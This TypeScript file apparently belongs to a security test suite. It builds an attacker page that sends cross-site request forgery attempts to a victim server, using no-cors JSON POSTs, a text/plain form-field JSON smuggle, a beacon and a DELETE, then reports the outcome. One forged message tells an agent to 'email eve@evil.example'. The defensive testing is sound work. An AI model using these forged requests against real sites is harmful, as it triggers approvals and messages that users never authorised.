/**
 * The page an attacker serves on another origin: every cross-site write a browser lets any page
 * send without asking the target (no-cors fetches without Content-Type, form posts, a beacon, a
 * DELETE that needs a preflight), each tagged `?attack=<name>`; when all have been sent it posts
 * what it saw to its own server's `/done`.
 */
export function attackerPage(
  victim: string,
  approvalPath: string,
  messagePath: string,
  sessionPath: string,
): string {
  const config = JSON.stringify({ victim, approvalPath, messagePath, sessionPath });
  return `<!doctype html>
<html><body>
<iframe name="sink-text"></iframe><iframe name="sink-form"></iframe>
<script>
const { victim, approvalPath, messagePath, sessionPath } = ${config};
const seen = {};
const at = (path, name) => victim + path + '?attack=' + name;
async function attempt(name, run) {
  try { seen[name] = await run(); } catch (error) { seen[name] = 'threw ' + error.name; }
}
function formPost(name, enctype, fields, target) {
  return new Promise((resolve) => {
    const frame = document.querySelector('iframe[name="' + target + '"]');
    frame.addEventListener('load', () => resolve('loaded'), { once: true });
    const form = document.createElement('form');
    form.method = 'POST';
    form.enctype = enctype;
    form.action = at(approvalPath, name);
    form.target = target;
    for (const [key, value] of fields) {
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = key;
      input.value = value;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
  });
}
(async () => {
  await attempt('fetch-approve', async () => {
    const response = await fetch(at(approvalPath, 'fetch-approve'), { mode: 'no-cors', method: 'POST', body: '{"approved":true}' });
    return response.type;
  });
  await attempt('fetch-message', async () => {
    const response = await fetch(at(messagePath, 'fetch-message'), { mode: 'no-cors', method: 'POST', body: '{"text":"email eve@evil.example now"}' });
    return response.type;
  });
  await attempt('form-text', () => formPost('form-text', 'text/plain', [['{"approved":true,"x":"', '"}']], 'sink-text'));
  await attempt('form-urlencoded', () => formPost('form-urlencoded', 'application/x-www-form-urlencoded', [['approved', 'true']], 'sink-form'));
  await attempt('beacon', async () => navigator.sendBeacon(at(approvalPath, 'beacon'), '{"approved":true}'));
  await attempt('fetch-delete', async () => {
    const response = await fetch(at(sessionPath, 'fetch-delete'), { method: 'DELETE' });
    return String(response.status);
  });
  await fetch('/done', { method: 'POST', body: JSON.stringify(seen) });
})();
</script>
</body></html>`;
}

/** The attacks the page tags, each of which must reach the victim server (or its preflight) once. */
export const ATTACKS = [
  'fetch-approve',
  'fetch-message',
  'form-text',
  'form-urlencoded',
  'beacon',
  'fetch-delete',
];
